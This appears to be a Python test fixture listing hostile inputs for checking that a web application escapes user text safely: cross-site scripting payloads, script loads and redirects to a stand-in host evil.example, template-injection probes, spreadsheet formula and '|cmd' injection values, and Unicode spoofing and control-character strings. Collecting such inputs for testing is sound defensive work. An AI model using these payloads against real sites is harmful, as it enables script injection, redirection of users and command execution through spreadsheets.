"""What somebody may write who wants to run something in a clerk's browser, to look like somebody else, or to break it."""

_RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    f"<img src=x onerror={_RUN}>",
    f'"><svg onload={_RUN}>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"' autofocus onfocus={_RUN} tabindex=1 x='",
    f"\" onmouseover={_RUN} style=position:fixed;inset:0 x=\"",
    f"</textarea><script>{_RUN}</script>",
    f"</title></option></select><script>{_RUN}</script>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"javascript:{_RUN}",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<form action=//evil.example><button formaction=//evil.example>x</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "<style>*{display:none!important}</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- ", "]]>", "&lt;b&gt; &#0; &nosuch;",
    "{{ 7*7 }}{% raw %}{# #}", "%(city)s %s %d {0} {city}", "${7*7} #{7*7} <%= 7*7 %>",
    "=HYPERLINK(\"//evil.example\")", "+1+1|cmd", "@SUM(A1)", "-2+3",
    "\u202egnp.exe", "\u2066\u2067\u2068 never closed", "\u200f\u061c خرابه على الرصيف",
    "zero\u200bwidth\u200d\ufeff\u00ad", "z\u0351\u036b\u0343\u036a\u0302" * 30,
    "\x00before\x0b\x1b[31m\x7f\x85\u2028\u2029after",
    "x" * 4000, "ﷺ" * 300, "👩‍👩‍👧‍👦" * 200,
)  # fmt: skip
